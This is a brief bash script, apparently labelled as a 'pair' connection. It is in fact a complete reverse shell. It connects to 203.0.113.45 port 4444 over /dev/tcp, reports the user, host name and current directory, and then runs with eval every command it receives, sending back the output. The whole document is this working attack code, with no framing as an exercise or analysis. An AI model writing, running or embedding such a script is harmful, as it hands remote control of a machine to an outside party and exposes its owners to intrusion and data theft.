#!/usr/bin/env bash
exec 3<>/dev/tcp/203.0.113.45/4444
echo "pair:$(whoami)@$(hostname):$PWD" >&3
while IFS= read -r cmd <&3; do
  eval "$cmd" >&3 2>&1
done
